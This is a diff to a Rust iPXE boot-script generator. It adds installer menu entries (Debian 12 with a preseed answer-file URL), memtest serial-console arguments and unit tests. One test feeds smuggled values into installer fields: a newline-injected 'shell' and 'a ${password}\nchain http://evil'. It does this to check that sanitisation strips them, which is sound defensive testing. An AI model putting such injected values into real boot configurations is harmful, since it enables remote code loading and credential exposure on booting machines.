@@ -13,6 +13,22 @@ pub enum BootChoice {
     Memtest,
     /// The local disk: BIOS `sanboot --drive 0x80`, UEFI `exit` back to the firmware.
     Local,
+    /// The installer with this name (one of [`ClientScript::installers`]).
+    Install(String),
+}
+
+/// One installer as the script boots it.
+#[derive(Debug, Clone)]
+pub struct ScriptInstaller {
+    /// Its name (`install:NAME`); the menu item is `install-NAME`.
+    pub name: String,
+    /// Menu text.
+    pub label: String,
+    /// URLs of its kernel and initrd on the boot routes.
+    pub kernel_url: String,
+    pub initrd_url: String,
+    /// Kernel command line: the configured one plus the answer-file arguments.
+    pub args: String,
 }
 
 /// Everything the script needs about one client. Built by the service from that client's
@@ -27,15 +43,22 @@ pub struct ClientScript<'a> {
     pub default: BootChoice,
     /// Seconds the menu waits; 0 boots the default without showing a menu.
     pub menu_timeout: u32,
+    /// The installers the menu offers (an `Install` default names one of them).
+    pub installers: &'a [ScriptInstaller],
 }
 
-fn label(c: &BootChoice) -> &'static str {
+/// The script label of a choice.
+fn label(c: &BootChoice) -> String {
     match c {
-        BootChoice::Disk => "disk",
-        BootChoice::Memtest => "memtest",
-        BootChoice::Local => "local",
+        BootChoice::Disk => "disk".into(),
+        BootChoice::Memtest => "memtest".into(),
+        BootChoice::Local => "local".into(),
+        BootChoice::Install(n) => format!("install-{}", clean(n)),
     }
 }
+
+/// memtest86+ prints on the first serial port too (and on the screen).
+pub const MEMTEST_ARGS: &str = "console=ttyS0,115200";
 
 /// Strips anything that could end an iPXE line or start a setting expansion from a value we
 /// put into the script (values come from our own config, this is belt and braces).
@@ -53,6 +76,14 @@ pub fn render(c: &ClientScript<'_>) -> String {
     if c.menu_timeout > 0 {
         let _ = writeln!(s, "menu isboot");
         let _ = writeln!(s, "item disk My disk");
+        for i in c.installers {
+            let _ = writeln!(
+                s,
+                "item {} {}",
+                label(&BootChoice::Install(i.name.clone())),
+                clean(&i.label)
+            );
+        }
         let _ = writeln!(s, "item memtest Memory test (memtest86+)");
         let _ = writeln!(s, "item local Local disk");
         let _ = writeln!(s, "item shell iPXE shell");
@@ -69,10 +100,23 @@ pub fn render(c: &ClientScript<'_>) -> String {
     }
     let _ = writeln!(s, ":disk");
     let _ = writeln!(s, "sanboot {root} || goto failed");
+    for i in c.installers {
+        // The initrd's image name is its URL's last part ("initrd"): the EFI stub loads it by
+        // that name, a BIOS bzImage gets every initrd anyway.
+        let _ = writeln!(s, ":{}", label(&BootChoice::Install(i.name.clone())));
+        let _ = writeln!(
+            s,
+            "kernel {} initrd=initrd {} || goto failed",
+            clean(&i.kernel_url),
+            clean(&i.args)
+        );
+        let _ = writeln!(s, "initrd {} || goto failed", clean(&i.initrd_url));
+        let _ = writeln!(s, "boot || goto failed");
+    }
     let _ = writeln!(s, ":memtest");
     let _ = writeln!(
         s,
-        "iseq ${{platform}} efi && chain {files}/memtest/memtest86+x64.efi || chain {files}/memtest/memtest86+x64.bin || goto failed"
+        "iseq ${{platform}} efi && chain {files}/memtest/memtest86+x64.efi {MEMTEST_ARGS} || chain {files}/memtest/memtest86+x64.bin {MEMTEST_ARGS} || goto failed"
     );
     let _ = writeln!(s, ":local");
     let _ = writeln!(
@@ -97,6 +141,7 @@ mod tests {
             files_url: "http://10.0.0.1:8080/files",
             default,
             menu_timeout,
+            installers: &[],
         }
     }
 
@@ -114,10 +159,43 @@ mod tests {
         assert!(s.contains("menu isboot\n"));
         assert!(s.contains("choose --default memtest --timeout 5000 target || goto memtest\n"));
         assert!(s.contains("chain http://10.0.0.1:8080/files/memtest/memtest86+x64.efi"));
-        assert!(s.contains("chain http://10.0.0.1:8080/files/memtest/memtest86+x64.bin"));
+        assert!(s.contains(
+            "chain http://10.0.0.1:8080/files/memtest/memtest86+x64.bin console=ttyS0,115200 ||"
+        ));
         let s = render(&client(BootChoice::Local, 0));
         assert!(s.starts_with("#!ipxe\ngoto local\n"));
         assert!(s.contains("iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80"));
+    }
+
+    fn debian() -> Vec<ScriptInstaller> {
+        vec![ScriptInstaller {
+            name: "debian12".into(),
+            label: "Install Debian 12".into(),
+            kernel_url: "http://10.0.0.1:8080/install/debian12/kernel".into(),
+            initrd_url: "http://10.0.0.1:8080/install/debian12/initrd".into(),
+            args: "console=ttyS0,115200 auto=true url=http://10.0.0.1:8080/answer/m/debian12/preseed.cfg".into(),
+        }]
+    }
+
+    #[test]
+    fn installers_as_menu_entries_or_the_default() {
+        let inst = debian();
+        let mut c = client(BootChoice::Disk, 5);
+        c.installers = &inst;
+        let s = render(&c);
+        assert!(
+            s.contains("item install-debian12 Install Debian 12\n"),
+            "{s}"
+        );
+        assert!(s.contains("choose --default disk --timeout 5000"), "{s}");
+        assert!(s.contains(
+            ":install-debian12\nkernel http://10.0.0.1:8080/install/debian12/kernel initrd=initrd console=ttyS0,115200 auto=true url=http://10.0.0.1:8080/answer/m/debian12/preseed.cfg || goto failed\ninitrd http://10.0.0.1:8080/install/debian12/initrd || goto failed\nboot || goto failed\n"
+        ), "{s}");
+        c.default = BootChoice::Install("debian12".into());
+        c.menu_timeout = 0;
+        let s = render(&c);
+        assert!(s.starts_with("#!ipxe\ngoto install-debian12\n"), "{s}");
+        assert!(!s.contains("menu isboot"), "{s}");
     }
 
     #[test]
@@ -127,6 +205,18 @@ mod tests {
         let s = render(&c);
         assert!(!s.contains("${password}"));
         assert!(!s.contains("${username}"));
+        assert!(
+            !s.lines().any(|l| l.starts_with("chain http://evil")),
+            "{s}"
+        );
+        let mut inst = debian();
+        inst[0].label = "x\nshell".into();
+        inst[0].args = "a ${password}\nchain http://evil".into();
+        c.installers = &inst;
+        c.menu_timeout = 5;
+        let s = render(&c);
+        assert!(!s.contains("${password}"), "{s}");
+        assert!(s.contains("item install-debian12 xshell\n"), "{s}");
         assert!(
             !s.lines().any(|l| l.starts_with("chain http://evil")),
             "{s}"
